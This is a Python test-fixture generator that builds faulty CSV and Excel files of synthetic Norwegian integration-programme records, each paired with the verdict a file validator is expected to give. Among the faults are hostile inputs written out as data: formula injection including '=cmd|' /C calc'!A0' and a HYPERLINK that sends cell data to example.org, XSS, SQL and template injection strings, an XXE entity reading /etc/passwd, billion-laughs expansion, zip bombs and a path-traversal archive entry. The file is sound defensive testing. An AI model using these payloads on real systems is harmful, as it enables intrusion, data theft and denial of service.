"""Files as nobody should send them, made from a seed, each with the best answer there is to it.

A case is a function of a random source, so that every seed gives other numbers, rows and places; `cases(seed)` makes
all of them. What is wrong stands in one place of an otherwise good file, and the answer must name that and no more.
"""

import gzip
import io
import random
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterator, Mapping, Sequence
from dataclasses import dataclass, field
from datetime import date, timedelta

from overgang.base.identity import DUF_WEIGHTS, check_digits, weighted
from overgang.collect.files import template
from tests.collect.files.workbooks import (
    DATE,
    DATE_TIME,
    Raw,
    Sheet,
    boolean,
    error,
    formula,
    number,
    packed,
    parts,
    shared,
    sheet_xml,
    workbook,
)

TODAY = date(2026, 11, 27)
Place = tuple[int, str, str]
"""Line, field and rule of a fault; the field is empty for a whole row."""


@dataclass(frozen=True)
class Case:
    """A file and its best answer: the rule it is refused by, or the faults that stop rows, what else is told, and how
    many rows are taken."""

    name: str
    kind: str
    data: bytes
    refused: str = ""
    faults: frozenset[Place] = frozenset()
    told: frozenset[str] = frozenset()
    rows: int = 0


@dataclass
class Table:
    """A good file of exits, before something is done to it. `header` and `rows` are text by column."""

    rng: random.Random
    kind: str = "exit"
    header: list[str] = field(default_factory=list)
    rows: list[list[str]] = field(default_factory=list)
    fields: list[str] = field(default_factory=list)

    @property
    def all(self) -> list[list[str]]:
        return [self.header, *self.rows]

    def any(self) -> int:
        """A row to do something to."""
        return self.rng.randrange(len(self.rows))

    def put(self, name: str, value: str, row: int | None = None) -> int:
        """Sets a value, in any row; the line it then stands in."""
        row = self.any() if row is None else row
        self.rows[row][self.fields.index(name)] = value
        return row + 2


def fnr(rng: random.Random, *, first: str = "", dnr: bool = False) -> str:
    """A valid synthetic national number (80 added to the month)."""
    while True:
        day = f"{rng.randrange(1, 29):02}"
        day = f"{int(day) + 40}" if dnr else day
        nine = f"{day}{rng.randrange(81, 93)}{rng.randrange(60, 99):02}{rng.randrange(100, 500)}"
        digits = check_digits([int(digit) for digit in nine])
        if digits and nine.startswith(first):
            return nine + "".join(map(str, digits))


def duf(rng: random.Random) -> str:
    ten = f"20{rng.randrange(10, 24)}{rng.randrange(1, 999_999):06}"
    return ten + f"{weighted([int(digit) for digit in ten], DUF_WEIGHTS) % 11:02}"


def short(day: date) -> str:
    return f"{day:%d.%m.%Y}"


def exits(rng: random.Random, n: int = 0, lang: str = "nb") -> Table:
    fields = ["number", "unit", "start", "end", "end_reason", "hours", "social_assistance"]
    table = Table(rng, "exit", [template("exit").by_name[name].label[lang] for name in fields], [], fields)
    for number_ in distinct(rng, n or rng.randrange(5, 30)):
        start = date(2024, 1, 2) + timedelta(rng.randrange(300))
        end = start + timedelta(rng.randrange(60, 500))
        unit = rng.choice(["1103", "K4601", "Tromsø", "5001", "Bodø kommune", "030103", "Lillestrøm"])
        reason = rng.choice(["CO_WORK_GT29", "PS_EDU_UPPER", "IN_MOVED", "co_other"])
        hours = f"{rng.randrange(10, 40)},{rng.choice('05')}"
        support = rng.choice(["Ja", "nei", "vet ikke", ""])
        table.rows.append([number_, unit, short(start), short(end), reason, hours, support])
    return table


def persons(rng: random.Random, n: int = 0) -> Table:
    fields = ["number", "name", "birth_date", "sex", "origin", "education", "upper_secondary"]
    table = Table(rng, "person", [template("person").by_name[name].label["nb"] for name in fields], [], fields)
    for number_ in distinct(rng, n or rng.randrange(5, 30)):
        name = f"{rng.choice(['Blid', 'Rask', 'Søt', 'Lún'])} {rng.choice(['Elv', 'Bjørk', 'Å', 'Vær'])}"
        born = short(date(1970, 1, 1) + timedelta(rng.randrange(11_000)))
        origin = rng.choice(["SY", "Syria", "Ukraina", "ER", "Afghanistan"])
        education = rng.choice(["Grunnskole", "higher", "Ingen utdanning", "Vidaregåande skule"])
        table.rows.append([number_, name, born, rng.choice("MF"), origin, education, rng.choice(["Ja", "Nei", ""])])
    return table


def measures(rng: random.Random, n: int = 0) -> Table:
    fields = ["number", "kind", "provider", "start", "end", "hours"]
    table = Table(rng, "measure", [template("measure").by_name[name].label["nb"] for name in fields], [], fields)
    for number_ in distinct(rng, n or rng.randrange(5, 30)):
        start = date(2024, 1, 2) + timedelta(rng.randrange(300))
        kind = rng.choice(["Språkpraksis", "norwegian", "Livsmestring"])
        table.rows.append([number_, kind, "Voksenopplæringen", short(start), short(start + timedelta(90)), "15"])
    return table


def distinct(rng: random.Random, n: int) -> list[str]:
    found: dict[str, None] = {}
    while len(found) < n:
        found[fnr(rng)] = None
    return list(found)


def csv(rows: Sequence[Sequence[str]], separator: str = ";", ends: Sequence[str] = ("\r\n",)) -> str:
    def quoted(cell: str) -> str:
        return '"' + cell.replace('"', '""') + '"' if any(sign in cell for sign in (separator, '"', "\n")) else cell

    lines = (separator.join(map(quoted, cells)) for cells in rows)
    return "".join(line + ends[at % len(ends)] for at, line in enumerate(lines))


CASES: list[Callable[[random.Random], Case]] = []


def case(make: Callable[[random.Random], Case]) -> Callable[[random.Random], Case]:
    CASES.append(make)
    return make


def cases(seed: int) -> Iterator[Case]:
    """Every case, made from a seed."""
    for make in CASES:
        yield make(random.Random(f"{seed} {getattr(make, 'case', make.__name__)}"))


def named() -> list[str]:
    return [getattr(make, "case", make.__name__) for make in CASES]


def add(name: str, make: Callable[[random.Random], Case]) -> None:
    make.case = name  # type: ignore[attr-defined]
    CASES.append(make)


# How good files may be written.


def good(name: str, write: Callable[[Table], bytes], *, told: Sequence[str] = (), make: Callable = exits) -> None:
    def build(rng: random.Random) -> Case:
        table = make(rng)
        return Case(name, table.kind, write(table), told=frozenset(told), rows=len(table.rows))

    add(name, build)


def reordered(table: Table) -> list[list[str]]:
    order = table.rng.sample(range(len(table.header)), len(table.header))
    return [[cells[at] for at in order] for cells in table.all]


def with_headers(table: Table, change: Callable[[str], str]) -> list[list[str]]:
    return [[change(cell) for cell in table.header], *table.rows]


good("utf-8", lambda table: csv(table.all).encode())
good("utf-8 with a mark", lambda table: csv(table.all).encode("utf-8-sig"))
good("utf-16 little", lambda table: b"\xff\xfe" + csv(table.all).encode("utf-16-le"))
good("utf-16 big", lambda table: b"\xfe\xff" + csv(table.all, "\t").encode("utf-16-be"))
good("utf-16 without a mark", lambda table: csv(table.all).encode("utf-16-le"))
good("windows-1252", lambda table: csv(table.all).encode("cp1252"))
good("windows-1252 persons", lambda table: csv(table.all).encode("cp1252"), make=persons)
good("commas", lambda table: csv(table.all, ",").encode())
good("tabs", lambda table: csv(table.all, "\t").encode())
good("bars", lambda table: csv(table.all, "|").encode())
good("mixed line endings", lambda table: csv(table.all, ends=("\r\n", "\n", "\r")).encode())
good("old Mac line endings", lambda table: csv(table.all, ends=("\r",)).encode("cp1252"))
good("separator declared", lambda table: ("sep=;\r\n" + csv(table.all)).encode())
good("blank lines", lambda table: csv([row for cells in table.all for row in (cells, [])] + [[""] * 7] * 50).encode())
good(
    "all in quotes",
    lambda table: csv(table.all).replace(";", '";"').replace("\r\n", '"\r\n"')[:-1].join(['"', ""]).encode(),
)
good("columns in another order", lambda table: csv(reordered(table)).encode())
good("capitals", lambda table: csv(with_headers(table, str.upper)).encode())
good("spaces in names", lambda table: csv(with_headers(table, lambda one: f"  {one.replace(' ', '_')} ")).encode())
good("nynorsk names", lambda table: csv(exits_in(table, "nn")).encode())
good("english names", lambda table: csv(exits_in(table, "en")).encode())
good("short names", lambda table: csv(with_headers(table, lambda one: SHORT.get(one, one))).encode())
good("iso dates", lambda table: csv([table.header, *map(iso, table.rows)]).encode())
good("days without zeros", lambda table: csv([table.header, *map(short_days, table.rows)]).encode())
good("title above", lambda table: csv([["Avslutninger 2024"], [], *table.all]).encode(), told=["header_below"])
good(
    "unknown column",
    lambda table: csv([[*cells, f"x{at}"] for at, cells in enumerate(table.all)]).encode(),
    told=["unknown_columns"],
)
good(
    "misspelt column",
    lambda table: csv([[*cells, "Folketryggd" if at == 0 else "Ja"] for at, cells in enumerate(table.all)]).encode(),
    told=["similar_column"],
)
good(
    "names repeated below",
    lambda table: csv([*table.all[:3], table.header, *table.all[3:]]).encode(),
    told=["header_again"],
)
good("separator in a name", lambda table: csv(renamed(table, "Elv; Blid")).encode(), make=measures)
good("quotes in a name", lambda table: csv(renamed(table, 'Senteret "Nord"')).encode(), make=measures)
good("only one row", lambda table: csv(table.all).encode(), make=lambda rng: exits(rng, 1))

SHORT = {
    "Fødselsnummer, D-nummer eller DUF-nummer": "Fnr",
    "Kommune eller bydel": "Kommunenr",
    "Startdato": "Programstart",
    "Sluttårsak": "Avslutningsårsak",
    "Timer i uka": "Timer/uke",
}


def exits_in(table: Table, lang: str) -> list[list[str]]:
    return [[template("exit").by_name[name].label[lang] for name in table.fields], *table.rows]


def iso(cells: list[str]) -> list[str]:
    return [f"{cell[6:]}-{cell[3:5]}-{cell[:2]}" if cell[2:3] == "." and cell[5:6] == "." else cell for cell in cells]


def short_days(cells: list[str]) -> list[str]:
    return [".".join(part.lstrip("0") for part in cell.split(".")) if cell.count(".") == 2 else cell for cell in cells]


def renamed(table: Table, provider: str) -> list[list[str]]:
    table.put("provider", provider)
    return table.all


# One value that is wrong.


def value(name: str, field_: str, rule: str, *values: str, make: Callable[..., Table] = exits) -> None:
    """A case of one value, drawn from `values`, in one row of an otherwise good file."""

    def build(rng: random.Random) -> Case:
        table = make(rng)
        line = table.put(field_, rng.choice(values))
        place = frozenset({(line, field_, rule)})
        return Case(name, table.kind, csv(table.all).encode(), faults=place, rows=len(table.rows) - 1)

    add(name, build)


def made(name: str, field_: str, rule: str, value_: Callable[[random.Random], str], make: Callable = exits) -> None:
    def build(rng: random.Random) -> Case:
        table = make(rng)
        line = table.put(field_, value_(rng))
        place = frozenset({(line, field_, rule)})
        return Case(name, table.kind, csv(table.all).encode(), faults=place, rows=len(table.rows) - 1)

    add(name, build)


def swapped(rng: random.Random) -> str:
    """A number with one digit wrong."""
    found = fnr(rng)
    at = rng.randrange(7, 11)
    return found[:at] + str((int(found[at]) + 1) % 10) + found[at + 1 :]


made("wrong check digits", "number", "identifier_check", swapped)
made("a date that no number has", "number", "identifier_check", lambda rng: "31029" + fnr(rng)[5:])
made("lost zero", "number", "identifier_zero", lambda rng: fnr(rng, first="0")[1:])
made("nine digits", "number", "identifier_length", lambda rng: fnr(rng)[:9])
made("thirteen digits", "number", "identifier_length", lambda rng: duf(rng) + "1")
made("letters in a number", "number", "identifier_signs", lambda rng: fnr(rng)[:10] + rng.choice("OlIx"))
made(
    "digits of other scripts", "number", "identifier_signs", lambda rng: "".join(chr(0x660 + int(d)) for d in fnr(rng))
)
value("scientific number", "number", "scientific", "1,20189E+10", "1.20189E+10", "3,1129E10")
value("no number", "number", "empty", "", "   ", "\u00a0")
value("two-digit year", "start", "two_digit_year", "15.01.24", "1.1.24", "15/01/24", "01-02-24")
value("31 June", "end", "impossible_date", "31.06.2024", "30.02.2024", "29.02.2023", "2024-13-01", "00.01.2024")
value("american date", "start", "date_order", "01/15/2024", "1/2/2024", "20240115", "15-01-2024")
value("date in words", "start", "not_date", "15. januar 2024", "i fjor", "2024", "uke 3")
value("serial date", "start", "serial_date", "45306", "45400")
value("date with a time", "start", "has_time", "15.01.2024 13:45", "2024-01-15T08:00:00")
value("year long ago", "start", "year_range", "15.01.0024", "01.01.1824", "15.01.9999")
value("future end", "end", "future", "28.11.2026", "01.01.2031", "2099-12-31")
value("end before start", "end", "before", "01.01.2024", "31.12.2023")
value("no end", "end", "empty", "", " ")
value("unknown unit", "unit", "unknown_unit", "9999", "Lillevik", "K9901", "Norge", "Rogaland", "F11")
value("unit without its zero", "unit", "unit_zero", "301", "30103")
value("Oslo as a whole", "unit", "unit_oslo", "0301", "Oslo", "Oslo kommune", "K0301")
value("unit of another time", "unit", "unit_not_then", "0213", "Ski", "1201", "3005", "Frei")
value("unit with a shared name", "unit", "ambiguous_unit", "Herøy", "Våler", "Herøy kommune")
value("unknown code", "end_reason", "unknown_code", "CO_WRK", "ferdig", "99", "total")
value("label of two codes", "end_reason", "ambiguous_code", "Arbeid, mer enn 29 timer i uka", "Other", "annet")
value("hours out of range", "hours", "out_of_range", "99", "-5", "60,5", "1 000")
value("thousands or decimals", "hours", "point_or_thousands", "1.234", "37.500")
value("too many decimals", "hours", "decimals", "37,55", "37.25")
value("no number of hours", "hours", "not_decimal", "full tid", "37,5 t", "-", "37,5,1", "1e1")
value("neither yes nor no", "upper_secondary", "not_yes_no", "kanskje", "2", "-", make=persons)
value("unknown answer", "social_assistance", "unknown_code", "delvis", "2")
value("unknown country", "origin", "unknown_code", "Atlantis", "ZZ", "XX", make=persons)
value("unknown sex", "sex", "unknown_code", "Q", "begge", "total", make=persons)
value("birth date to come", "birth_date", "future", "01.01.2030", make=persons)
value("heading as a measure", "kind", "unknown_code", "Rettet mot arbeid", "work_directed", make=measures)
for at, text in enumerate(
    (
        '=HYPERLINK("http://example.org?x="&A1;"Klikk")',
        "=cmd|' /C calc'!A0",
        "+1+1",
        "@SUM(A1:A9)",
        "-2+3+cmd|' /C calc'!A0",
        "\t=1+1",
        "  =1+1",
        "＝1+1",
        "=1+1",
    )
):
    value(f"formula {at}", "name", "formula", text, make=persons)
    value(f"formula {at} in a text", "provider", "formula", text, make=measures)
value("formula in a number", "hours", "formula", "=15+22", "=A2*2")
value("formula as a date", "start", "formula", "=TODAY()", "=DATE(2024;1;1)")
value("NUL", "name", "control", "Blid\x00Elv", "\x00\x00Blid", make=persons)
value("control signs", "name", "control", "Blid\x1b[31mElv", "Blid\x07", "Bl\x7fid", make=persons)
value("text turned around", "name", "control", "Blid\u202eElv", "\u2066Blid\u2069", "\u200fBlid", make=persons)
value("signs without width", "name", "control", "Bl\u200bid", "Bl\ufeffid", "Bl\u2028id", make=persons)
value("line break in a name", "name", "control", "Blid\nElv", make=persons)
value("lost letters", "name", "lost_letters", "Bj\ufffdrk", "S\ufffdt", make=persons)
value("letters decoded twice", "name", "lost_letters", "BjÃ¸rk", "SÃ¦lid", "Ã…se", make=persons)
value("script as a name", "name", "not_name", "<script>alert(1)</script>", "{{7*7}}", "Blid; DROP TABLE", make=persons)
value("digits as a name", "name", "not_name", "12345", "Blid 2", make=persons)
made("number as a name", "name", "not_name", fnr, make=persons)
made("long name", "name", "too_long", lambda rng: "å" * rng.randrange(201, 1999), make=persons)
made("giant field", "name", "too_long", lambda rng: "x" * rng.randrange(2_001, 1_000_000), make=persons)
made("giant date", "start", "too_long", lambda rng: "1" * rng.randrange(2_001, 100_000))
value("spreadsheet error", "hours", "spreadsheet_error", "#REF!", "#I/T", "#DIV/0!", "#####")


@case
def wrong_kind_of_number(rng: random.Random) -> Case:
    table = exits(rng)
    table.header.append("Slag nummer")
    for cells in table.rows:
        cells.append("fnr")
    line = table.put("number", fnr(rng, dnr=True))
    places = frozenset({(line, "number", "kind_differs")})
    return Case("wrong kind of number", "exit", csv(table.all).encode(), faults=places, rows=len(table.rows) - 1)


@case
def other_kinds_of_number(rng: random.Random) -> Case:
    table = exits(rng)
    table.put("number", duf(rng), 0)
    table.put("number", fnr(rng, dnr=True), 1)
    number_ = fnr(rng)
    table.put("number", f"{number_[:6]} {number_[6:]}", 2)
    return Case("other kinds of number", "exit", csv(table.all).encode(), rows=len(table.rows))


@case
def doubtful_duf(rng: random.Random) -> Case:
    table = exits(rng)
    found = duf(rng)
    table.put("number", found[:10] + f"{(int(found[10:]) + 1) % 100:02}")
    data = csv(table.all).encode()
    return Case("doubtful DUF number", "exit", data, told=frozenset({"duf_check"}), rows=len(table.rows))


@case
def duplicate(rng: random.Random) -> Case:
    table = exits(rng)
    table.rows.append(list(table.rows[table.any()]))
    places = frozenset({(len(table.rows) + 1, "", "duplicate")})
    return Case("duplicate", "exit", csv(table.all).encode(), faults=places, rows=len(table.rows) - 1)


@case
def expired_code(rng: random.Random) -> Case:
    rows = [["Fnr", "Kommune", "Startdato", "Lov", "Sluttmål"]]
    rows += [[one, "Tromsø", "15.01.2024", "INTEGR_2021", "Arbeid"] for one in distinct(rng, 9)]
    at = rng.randrange(1, 10)
    rows[at][4] = rng.choice(["vocational_certificate", "Fagbrev", "Vocational certificate"])
    places = frozenset({(at + 1, "end_goal", "expired_code")})
    return Case("code of another time", "participation", csv(rows).encode(), faults=places, rows=8)


@case
def rejection_without_reason(rng: random.Random) -> Case:
    rows = [["Fnr", "Kommune", "Vedtak", "Vedtaksdato", "Avslagsgrunn"]]
    rows += [[one, "Tromsø", "Innvilgelse", "15.01.2024", ""] for one in distinct(rng, 9)]
    at = rng.randrange(1, 10)
    rows[at][2] = "Avslag"
    places = frozenset({(at + 1, "reason", "empty_when")})
    return Case("rejection without a reason", "decision", csv(rows).encode(), faults=places, rows=8)


@case
def everything_wrong(rng: random.Random) -> Case:
    table = exits(rng)
    row = table.any()
    wrong = {"number": "x", "unit": "y", "start": "31.02.2024", "end": "1.1.24", "end_reason": "z", "hours": "mye"}
    rules = ("identifier_signs", "unknown_unit", "impossible_date", "two_digit_year", "unknown_code", "not_decimal")
    for name, text in wrong.items():
        table.put(name, text, row)
    places = frozenset((row + 2, name, rule) for name, rule in zip(wrong, rules, strict=True))
    return Case("everything wrong in a row", "exit", csv(table.all).encode(), faults=places, rows=len(table.rows) - 1)


# One row that is wrong.


@case
def too_many_cells(rng: random.Random) -> Case:
    table = exits(rng)
    row = table.any()
    table.rows[row].insert(2, "2")
    table.rows[row][-1] = table.rows[row][-1] or "Ja"
    places = frozenset({(row + 2, "", "too_many_cells")})
    return Case("a separator too many", "exit", csv(table.all).encode(), faults=places, rows=len(table.rows) - 1)


@case
def short_row(rng: random.Random) -> Case:
    table = exits(rng)
    row = table.any()
    table.rows[row] = table.rows[row][:3]
    places = frozenset({(row + 2, "end", "empty")})
    return Case("row that breaks off", "exit", csv(table.all).encode(), faults=places, rows=len(table.rows) - 1)


@case
def open_quote(rng: random.Random) -> Case:
    table = measures(rng)
    row = table.any()
    lines = csv(table.all).splitlines()
    lines[row + 1] = lines[row + 1].replace("Voksenopplæringen", '"Voksenopplæringen')
    places = frozenset({(row + 2, "", "broken_quotes")})
    return Case("quote never closed", "measure", "\n".join(lines).encode(), faults=places, rows=len(table.rows) - 1)


@case
def stray_quote(rng: random.Random) -> Case:
    table = measures(rng)
    row = table.any()
    lines = csv(table.all).splitlines()
    lines[row + 1] = lines[row + 1].replace("Voksenopplæringen", '"Voksen"opplæringen"x"')
    places = frozenset({(row + 2, "", "broken_quotes")})
    return Case("quotes in the middle", "measure", "\n".join(lines).encode(), faults=places, rows=len(table.rows) - 1)


def shifted_rows(table: Table, first: int, side: int) -> list[list[str]]:
    if side > 0:
        return [table.header, *([*cells[:first], "x", *cells[first:-1]] for cells in table.rows)]
    return [table.header, *([*cells[:first], *cells[first + 1 :], ""] for cells in table.rows)]


def shift(name: str, first: int, side: int) -> None:
    def build(rng: random.Random) -> Case:
        table = exits(rng, rng.randrange(5, 30))
        data = csv(shifted_rows(table, first, side)).encode()
        return Case(name, "exit", data, told=frozenset({"shifted"}), faults=ANY, rows=0)

    add(name, build)


ANY: frozenset[Place] = frozenset({(-1, "", "")})
"""Every row is at fault, by whatever rule."""
shift("shifted to the right", 0, 1)
shift("shifted to the right from the second", 1, 1)
shift("shifted to the left", 0, -1)
shift("shifted to the left from the second", 1, -1)


# Whole files that are refused.


def refused(name: str, rule: str, data: Callable[[random.Random], bytes], kind: str = "exit") -> None:
    add(name, lambda rng: Case(name, kind, data(rng), refused=rule))


def noise(rng: random.Random, n: int) -> bytes:
    return rng.randbytes(n)


OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
refused("empty file", "empty_file", lambda _: b"")
refused("nothing but blanks", "empty_file", lambda rng: b" \r\n\t" * rng.randrange(1, 1000))
refused("nothing but NULs", "empty_file", lambda rng: bytes(rng.randrange(1, 10_000)))
refused("only a mark", "empty_file", lambda _: b"\xef\xbb\xbf")
refused("header only", "no_rows", lambda rng: csv([exits(rng).header]).encode())
refused("no header", "no_header", lambda rng: csv(exits(rng).rows).encode())
refused("prose", "no_header", lambda rng: ("Hei, her kommer listen.\n" * rng.randrange(2, 40)).encode())
refused("another template", "other_template", lambda rng: csv(persons(rng).all).encode())
refused("no end column", "missing_columns", lambda rng: csv([[*c[:3], *c[4:]] for c in exits(rng).all]).encode())
refused("column twice", "repeated_column", lambda rng: csv([[*c, c[2]] for c in exits(rng).all]).encode())
refused(
    "alias and name",
    "repeated_column",
    lambda rng: csv([[*c, "Kommunenr" if at == 0 else "1103"] for at, c in enumerate(exits(rng).all)]).encode(),
)
refused(
    "75 columns", "too_many_columns", lambda rng: csv([[*c, *map(str, range(68))] for c in exits(rng).all]).encode()
)
refused("too many rows", "too_many_rows", lambda rng: csv(exits(rng, 20).all + exits(rng, 20).rows * 1001).encode())
refused("endless blank lines", "too_many_rows", lambda rng: csv(exits(rng).all).encode() + b"\n" * 20_000_000)
refused("binary rubbish", "binary", lambda rng: b"\x01" + noise(rng, rng.randrange(500, 100_000)))
refused("PDF", "pdf", lambda rng: b"%PDF-1.7\n" + noise(rng, 5000))
refused("picture", "picture", lambda rng: b"\x89PNG\r\n\x1a\n" + noise(rng, 5000))
refused("gzip", "packed", lambda rng: gzip.compress(csv(exits(rng).all).encode()))
refused("rtf", "rich_text", lambda _: b"{\\rtf1\\ansi Hei}")
refused("json", "json", lambda _: b'[{"fnr": "x"}]')
refused(
    "web page as xls",
    "html",
    lambda rng: ("<html><body><table>" + "<tr><td>1</td></tr>" * rng.randrange(3, 99)).encode(),
)
refused("table as xls", "html", lambda _: b"\xef\xbb\xbf\r\n<TABLE border=1><tr><td>1</td></tr></TABLE>")
refused(
    "xml spreadsheet",
    "xml_spreadsheet",
    lambda _: b'<?xml version="1.0"?>\n<Workbook xmlns="urn:schemas-microsoft-com:office:spreadsheet"/>',
)
refused("xml with a document type", "xml", lambda _: b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "aaa">]><x>&a;</x>')
refused(
    "xls", "old_excel", lambda rng: OLE + noise(rng, 504) + "Workbook".encode("utf-16-le") + bytes(50) + noise(rng, 999)
)
refused("password", "password", lambda rng: OLE + noise(rng, 504) + "EncryptedPackage".encode("utf-16-le") + bytes(50))
refused("doc", "old_office", lambda rng: OLE + noise(rng, 504) + "WordDocument".encode("utf-16-le") + bytes(50))
refused(
    "mixed encodings",
    "mixed_encodings",
    lambda rng: csv(persons(rng, 9).all).encode() + "19;Søt Bjørk;1;M".encode("cp1252"),
)
refused("unknown encoding", "unknown_encoding", lambda rng: csv(exits(rng).all).encode("cp1252") + b"\x81\x8d\x90;\r\n")
refused(
    "broken utf-16",
    "wrong_encoding",
    lambda rng: b"\xff\xfe" + csv(exits(rng).all).encode("utf-16-le") + b"\x00\xd8\x20",
)
refused(
    "broken utf-8 with a mark", "wrong_encoding", lambda rng: csv(exits(rng).all).encode("utf-8-sig") + b"\xff;\r\n"
)
refused("too big", "too_big", lambda _: b"x" * 25_000_001)


# Workbooks.


def changed(rng: random.Random, change: Callable[[dict[str, bytes]], None]) -> bytes:
    found = parts([Sheet(exits(rng).all)])
    change(found)
    return packed(found)


def book_refused(name: str, rule: str, change: Callable[[dict[str, bytes]], None]) -> None:
    refused(name, rule, lambda rng: changed(rng, change))


def setting(name: str, data: bytes) -> Callable[[dict[str, bytes]], None]:
    return lambda found: found.__setitem__(name, data)


SHEET = "xl/worksheets/sheet1.xml"
DOCTYPE = b'<?xml version="1.0"?><!DOCTYPE s [%s]>'
LAUGHS = DOCTYPE % b"".join(
    b'<!ENTITY l%d "%s">' % (at, b"&l%d;" % (at - 1) * 10 if at else b"ha" * 9) for at in range(9)
)
OUTSIDE = DOCTYPE % b'<!ENTITY x SYSTEM "file:///etc/passwd">'


ELEMENTS = "".join(f"<a{random.Random(at).randrange(900)}/>" for at in range(50_000))
"""Longer than what a packer remembers, so that many of them are no bomb."""


def in_sheet(xml: str) -> Callable[[dict[str, bytes]], None]:
    """Puts XML at the head of the rows."""

    def change(found: dict[str, bytes]) -> None:
        found[SHEET] = found[SHEET].replace(b"<sheetData>", b"<sheetData>" + xml.encode())

    return change


def replaced(old: bytes, new: bytes, part: str = SHEET) -> Callable[[dict[str, bytes]], None]:
    def change(found: dict[str, bytes]) -> None:
        assert old in found[part]
        found[part] = found[part].replace(old, new)

    return change


def with_doctype(doctype: bytes, part: str, entity: bytes) -> Callable[[dict[str, bytes]], None]:
    def change(found: dict[str, bytes]) -> None:
        body = found[part].split(b"\n", 1)[1]
        found[part] = doctype + body.replace(
            b"<sheetData>", b'<sheetData><row r="900"><c t="str"><v>%s</v></c></row>' % entity
        )

    return change


def removing(name: str) -> Callable[[dict[str, bytes]], None]:
    return lambda found: found.__delitem__(name)


book_refused("macros", "macros", setting("xl/vbaProject.bin", b"\xcc\x61"))
book_refused(
    "macro type",
    "macros",
    setting(
        "[Content_Types].xml",
        b'<Types><Override ContentType="application/vnd.ms-excel.sheet.macroEnabled.main+xml"/></Types>',
    ),
)
book_refused("old macro sheet", "macros", setting("xl/macrosheets/sheet1.xml", b"<x/>"))
book_refused("binary workbook", "xlsb", setting("xl/workbook.bin", b"\x83\x01"))
book_refused("billion laughs", "doctype", with_doctype(LAUGHS, SHEET, b"&l8;"))
book_refused("external entity", "doctype", with_doctype(OUTSIDE, SHEET, b"&x;"))
book_refused("laughs in the texts", "doctype", with_doctype(LAUGHS, "xl/sharedStrings.xml", b""))
book_refused("laughs in the workbook", "doctype", with_doctype(LAUGHS, "xl/workbook.xml", b""))
book_refused("laughs in the styles", "doctype", with_doctype(LAUGHS, "xl/styles.xml", b""))
book_refused("laughs in the relations", "doctype", with_doctype(LAUGHS, "xl/_rels/workbook.xml.rels", b""))
book_refused("broken XML", "damaged_workbook", replaced(b"</sheetData>", b"</sheetDat>"))
book_refused("undefined entity", "damaged_workbook", in_sheet('<row r="900"><c t="str"><v>&nope;</v></c></row>'))
book_refused("deep XML", "too_much_markup", in_sheet("<a>" * 100_000 + "</a>" * 100_000))
book_refused("endless attribute", "damaged_workbook", in_sheet(f'<row r="1" x="{"x" * 3_000_000}"/>'))
book_refused("endless elements", "too_much_markup", in_sheet(ELEMENTS * 130))
book_refused("no sheet part", "damaged_workbook", removing(SHEET))
book_refused("no workbook part", "damaged_workbook", removing("xl/workbook.xml"))
book_refused("no sheets", "no_sheets", setting("xl/workbook.xml", b"<workbook><sheets/></workbook>"))
book_refused("rows in the wrong order", "damaged_workbook", in_sheet('<row r="7"/>'))
book_refused("cells in the wrong order", "damaged_workbook", in_sheet('<row r="0"/>'))
book_refused("a nested archive", "nested_archive", setting("xl/embeddings/a.zip", packed({"a": b"b"})))
book_refused("a name that climbs", "damaged_workbook", setting("../../etc/passwd", b"x"))
book_refused(
    "too many parts", "too_many_parts", lambda found: found.update({f"xl/x{at}.xml": b"" for at in range(600)})
)
book_refused("bomb", "zip_bomb", setting("xl/media/x.bin", bytes(150_000_000)))
book_refused("bomb in the sheet", "zip_bomb", setting(SHEET, b"<worksheet>" + b" " * 120_000_000))
book_refused(
    "text repeated in every cell",
    "too_much_text",
    lambda found: found.update(
        parts([Sheet([exits(random.Random(1)).header, *[[shared(0)] * 60] * 400])], strings=["å" * 2000])
    ),
)
book_refused(
    "wrong text number", "damaged_workbook", replaced(b"<sheetData>", b'<sheetData><row><c t="s"><v>77</v></c></row>')
)


@case
def lying_size(rng: random.Random) -> Case:
    """The table of contents says 1 000 bytes; the part unpacks to 210 million."""
    found = parts([Sheet(exits(rng).all)])
    found[SHEET] = b"<worksheet>" + b" " * 210_000_000
    data = packed(found)
    size = struct.pack("<I", len(found[SHEET]))
    return Case("bomb that lies", "exit", data.replace(size, struct.pack("<I", 1000)), refused="truncated_workbook")


@case
def truncated(rng: random.Random) -> Case:
    data = workbook(Sheet(exits(rng).all))
    return Case("truncated workbook", "exit", data[: rng.randrange(40, len(data) - 30)], refused="truncated_workbook")


@case
def flipped(rng: random.Random) -> Case:
    """A byte of the packed sheet is another: its checksum says so."""
    data = bytearray(workbook(Sheet(exits(rng, 30).all)))
    at = data.find(SHEET.encode()) + len(SHEET) + rng.randrange(200, 400)
    data[at] ^= 0xFF
    return Case("damaged sheet", "exit", bytes(data), refused="truncated_workbook")


@case
def encrypted_part(rng: random.Random) -> Case:
    data = bytearray(workbook(Sheet(exits(rng).all)))
    at = data.rfind(b"PK\x01\x02")
    data[at + 8] |= 1
    return Case("encrypted zip", "exit", bytes(data), refused="password")


@case
def strange_method(rng: random.Random) -> Case:
    data = packed(parts([Sheet(exits(rng).all)]), zipfile.ZIP_BZIP2)
    return Case("strange packing", "exit", data, refused="truncated_workbook")


@case
def same_part_twice(rng: random.Random) -> Case:
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w") as archive:
        for name, data in [*parts([Sheet(exits(rng).all)]).items()]:
            archive.writestr(name, data)
        archive.writestr(SHEET.upper(), b"<worksheet/>")
    return Case("same part twice", "exit", target.getvalue(), refused="damaged_workbook")


def other_zip(name: str, rule: str, found: Mapping[str, bytes]) -> None:
    refused(name, rule, lambda _: packed(found))


other_zip("ods", "ods", {"mimetype": b"application/vnd.oasis.opendocument.spreadsheet", "content.xml": b"<x/>"})
other_zip("docx", "word", {"[Content_Types].xml": b"<x/>", "word/document.xml": b"<x/>"})
other_zip("zip of a csv", "not_a_workbook", {"rader.csv": b"Fnr;Start\n"})
refused("empty zip", "empty_file", lambda _: packed({}))
refused(
    "zip64 with a million parts",
    "too_many_parts",
    lambda _: (
        b"PK\x03\x04"
        + struct.pack("<4sQHHIIQQQQ", b"PK\x06\x06", 44, 45, 45, 0, 0, 10**6, 10**6, 10**9, 4)
        + struct.pack("<4sIQI", b"PK\x06\x07", 0, 4, 1)
        + struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, 65535, 65535, 2**32 - 1, 2**32 - 1, 0)
    ),
)
